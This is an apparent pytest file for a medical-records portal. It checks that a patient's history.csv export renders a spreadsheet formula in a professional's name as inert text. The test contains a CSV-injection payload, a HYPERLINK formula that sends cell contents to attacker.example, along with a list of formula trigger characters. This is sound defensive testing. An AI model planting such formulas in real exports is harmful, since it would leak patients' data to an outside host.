"""Issue 12 item 4, end to end over ASGI on both databases: a professional whose name (from
his credential) is a spreadsheet formula appears in the patient's ``history.csv`` as text,
never as a cell a spreadsheet would run (docs/security.md, "CSV exports")."""

from __future__ import annotations

import csv
import dataclasses
import io
import zipfile

import httpx

from opendmp.services.core.context import ServiceContext
from opendmp.services.documents import deposit_document
from tests.conftest import Clock
from tests.factories import submission
from tests.web.test_patient_portal import DOCTOR, PDF, post_page, signed_in

FORMULA_NAME = '=HYPERLINK("https://attacker.example/?leak="&A1,"Dr Fictif")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


async def test_a_formula_in_a_professionals_name_is_exported_as_text(
    client: httpx.AsyncClient, ctx: ServiceContext, clock: Clock
) -> None:
    account = await signed_in(client, ctx, clock)
    attacker = dataclasses.replace(DOCTOR, name=FORMULA_NAME)
    await deposit_document(
        ctx,
        actor=attacker,
        ins=account.ins,
        submission=submission(ctx.now(), title="@SUM(1+1)", content=PDF),
    )

    exported = await post_page(client, "/patient/dossier", "/patient/dossier/export", {})

    assert exported.status_code == 200, exported.text
    with zipfile.ZipFile(io.BytesIO(exported.content)) as archive:
        text = archive.read("history.csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
    deposit_row = next(row for row in rows if "document:document:deposit" in row)
    assert deposit_row[1] == "'" + FORMULA_NAME  # shown as text, the name still readable
    # Every cell is quoted: a spreadsheet never splits or re-interprets one.
    assert text.splitlines()[0].startswith('"time","who"')
